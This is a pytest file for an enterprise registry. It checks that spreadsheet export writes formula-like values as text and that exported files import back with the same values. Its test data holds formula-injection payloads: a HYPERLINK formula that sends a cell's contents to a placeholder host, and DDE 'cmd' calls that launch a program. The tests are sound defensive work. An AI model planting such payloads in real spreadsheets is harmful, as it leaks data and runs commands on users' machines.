"""Spreadsheet export never writes a formula (issue 12: "the spreadsheet export writes ``=…``
cells as formulas"), on SQLite and PostgreSQL: names, addresses and phones typed as ``= + - @``
come out as text in xlsx and CSV, and an exported file imports back to the same values."""
import csv

import openpyxl
import pytest
import sqlalchemy as sa

from tests.test_enterprise_spreadsheet import NOW, col, sample_rows, write_csv
from workflows.enterprises import EnterpriseRegistry, create_tables
from workflows.enterprises.spreadsheet import export_enterprises, export_rows, import_enterprises

HOSTILE = {
    "企业名称": '=HYPERLINK("http://example.invalid/?"&A1,"点击查看整改通知")',
    "地址": "+86-10-12345678 东城区安定门外大街",
    "法定代表人": "-2+3+cmd|' /C calc'!A0",
    "安全负责人": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def registry(database_url):
    engine = sa.create_engine(database_url)
    create_tables(engine)
    yield EnterpriseRegistry(engine, clock=lambda: NOW)
    engine.dispose()


@pytest.fixture
def hostile(registry, tmp_path):
    rows = sample_rows(3)
    for header, value in HOSTILE.items():
        rows[0][col(header)] = value
    assert import_enterprises(registry, write_csv(tmp_path / "in.csv", rows)).ok
    return rows[0][0]


def test_xlsx_export_writes_formula_like_cells_as_text(registry, hostile, tmp_path):
    path = tmp_path / "out.xlsx"
    export_enterprises(registry, path)
    sheet = openpyxl.load_workbook(path).active
    row = next(r for r in sheet.iter_rows() if r[0].value == hostile)
    for header, value in HOSTILE.items():
        cell = row[col(header)]
        assert cell.data_type == "s" and cell.value == value, (header, cell.data_type, cell.value)


def test_csv_export_neutralizes_formula_like_cells_and_imports_back(registry, hostile, tmp_path):
    path = tmp_path / "out.csv"
    export_enterprises(registry, path)
    with open(path, encoding="utf-8-sig", newline="") as f:
        row = next(r for r in csv.reader(f) if r[0] == hostile)
    for header, value in HOSTILE.items():
        assert row[col(header)] == "'" + value  # Excel and WPS show it as text, never run it
    copy_engine = sa.create_engine(f"sqlite:///{tmp_path / 'copy.sqlite'}")
    create_tables(copy_engine)
    copy = EnterpriseRegistry(copy_engine, clock=lambda: NOW)
    assert import_enterprises(copy, path).ok
    assert list(export_rows(copy)) == list(export_rows(registry))  # the values themselves round-trip
    copy_engine.dispose()
